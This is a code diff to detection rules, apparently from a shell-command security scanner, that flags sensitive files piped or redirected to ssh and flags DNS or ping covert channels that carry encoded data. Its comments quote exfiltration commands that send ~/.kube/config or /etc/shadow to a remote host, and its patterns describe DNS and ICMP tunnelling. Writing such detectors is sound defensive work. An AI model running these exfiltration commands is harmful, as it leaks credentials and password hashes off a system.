@@ -79,6 +79,9 @@ const sensitiveFileSent: Rule = {
     const file = excerpt(s.text, SENSITIVE_FILE);
     const channel = excerpt(s.text, NETWORK_CHANNEL, 40);
     if (file !== undefined && channel !== undefined && !onlyAuthenticates(s, file)) return { file, channel };
+    // `cat ~/.kube/config | ssh h 'cat > x'`, `ssh h 'cat > x' < /etc/shadow`: the file's bytes fed to a remote command.
+    const fed = invocationsOf(s, 'ssh').find((inv) => inv.command.redirects.some((r) => r.op === '<' && SENSITIVE_FILE.test(r.target)) || (inv.command.pipedFrom && s.invocations.some((r) => r.command.pipesTo && r.args.some((a) => SENSITIVE_FILE.test(a)))));
+    if (fed) return { file: excerpt(s.text, SENSITIVE_FILE) ?? '', channel: 'ssh' };
     // Copying a kubeconfig to a laptop with scp is the K3s docs' advice; copying a password hash or key off is not.
     // The key given to `scp -i` or `rsync -e 'ssh -i ...'` authenticates the copy; it is not what is copied.
     for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp', 'sshfs')) {
@@ -224,7 +227,8 @@ const covertChannel: Rule = {
       ?? excerpt(s.text, /\b(?:dig|nslookup|host|drill)\b[^|;]*(?:\$\(|`)[^)`]*\b(?:base64|base32|xxd|od|hexdump)\b/);
     if (dns !== undefined) return { dns };
     // A host name whose first label is encoded data: a long base32/hex run, or base64 with its `=` padding.
-    const encoded = s.invocations.filter((inv) => /^(?:dig|nslookup|host|drill|ping|curl|wget)$/.test(inv.program)).flatMap((inv) => inv.args).find((a) => /^(?:https?:\/\/)?(?:[A-Za-z0-9+/_-]{24,}|[A-Za-z0-9+/_-]{8,}={1,2})\.[\w-]+\.[a-z]{2,}\b/.test(a) && (/\d/.test(a.split('.')[0]) || /=\./.test(a)));
+    // (A DNS label has no `/`: `/tmp/s6-overlay-binaries.tar.xz` is a file name, not a host.)
+    const encoded = s.invocations.filter((inv) => /^(?:dig|nslookup|host|drill|ping|curl|wget)$/.test(inv.program)).flatMap((inv) => inv.args).find((a) => /^(?:https?:\/\/|@)?(?:[A-Za-z0-9_-]{24,}|[A-Za-z0-9+_-]{8,}={1,2})\.[\w-]+\.[a-z]{2,}\b/.test(a) && (/\d/.test(a.split('.')[0]) || /=\./.test(a)));
     if (encoded !== undefined) return { encodedHost: encoded.slice(0, 120) };
     const ping = invocationsOf(s, 'ping', 'hping3', 'nping').find((inv) => inv.args.some((a, i) => /^-p$|^--data$|^-E$|^--file$/.test(inv.args[i - 1] ?? '') && /\$|^[0-9a-f]{8,}$/i.test(a)));
     return ping ? { icmp: `${ping.program} ${ping.args.join(' ')}`.slice(0, 120) } : undefined;
